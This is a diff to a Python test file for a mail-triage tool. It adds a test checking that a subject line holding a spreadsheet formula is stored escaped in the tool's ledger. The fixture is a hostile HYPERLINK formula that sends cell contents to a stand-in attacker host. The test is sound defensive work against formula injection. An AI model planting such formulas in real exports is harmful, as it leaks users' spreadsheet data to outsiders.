@@ -8,7 +8,7 @@ from email.policy import default
 import pytest
 
 from triage_mail.drafts import draft_of
-from triage_mail.ledger import keys_in
+from triage_mail.ledger import keys_in, row_of
 from triage_mail.mails import Mail
 from triage_mail.places import places_for
 from triage_mail.sorting import Sorted, Verdict, by_rule, judged, prompt_of, unsorted
@@ -104,6 +104,11 @@ def test_what_is_automatic_needs_no_llm() -> None:
     assert isinstance(found, Sorted)
     assert (found.kind, found.by) == ("automatic", "a rule")
     assert by_rule(MAIL) is None
+
+
+def test_a_subject_that_is_a_formula_is_none_in_the_ledger() -> None:
+    one = judged(Mail(**{**MAIL.__dict__, "subject": '=HYPERLINK("https://evil.example/"&A2)'}), verdict(), "")
+    assert row_of(one, "1", "Post/Questions/a.eml", "")["subject"].startswith("'=HYPERLINK(")
 
 
 def test_the_ledger_is_read_whatever_a_person_made_of_it() -> None:
